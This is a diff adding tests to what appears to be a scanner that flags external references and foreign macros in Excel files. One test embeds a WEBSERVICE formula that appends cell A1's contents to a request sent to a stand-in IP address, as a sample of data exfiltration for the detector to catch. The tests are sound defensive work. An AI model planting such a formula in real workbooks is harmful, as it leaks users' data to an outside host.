@@ -291,3 +291,19 @@ def test_linked_workbooks_are_references(scan):
     rels = relationships(("rId1", f"{RELATIONSHIPS}externalLinkPath", "Mappe2.xlsx", "External"))
     report = scan(excel(parts={"xl/externalLinks/_rels/externalLink1.xml.rels": rels}), "a.xlsx")
     assert details(report, "external-reference") == ["linked workbook: Mappe2.xlsx"]
+
+
+def test_a_cell_that_fetches_is_a_reference_and_one_that_calculates_is_none(scan):
+    def sheet(formula):
+        text = f'<worksheet {fixtures.S}><sheetData><row r="1"><c r="A1"><f>{formula}</f></c></row></sheetData></worksheet>'
+        return fixtures.excel(parts={"xl/worksheets/sheet2.xml": text})
+
+    report = scan(sheet('_xlfn.WEBSERVICE("http://203.0.113.7/"&amp;A1)'), "a.xlsx")
+    assert details(report, "external-reference") == ['spreadsheet function WEBSERVICE: "http://203.0.113.7/"&A1)']
+    assert details(scan(sheet("SUM(A1:A3)"), "a.xlsx"), "external-reference") == []
+
+
+def test_macros_of_another_office_are_macros(scan):
+    assert details(scan(fixtures.excel(parts={"xl/JDEData.bin": b"JDE" + bytes(40)}), "a.xlsx"), "macro-content") == [
+        "WPS JavaScript: macros of WPS Office in JDEData.bin"
+    ]
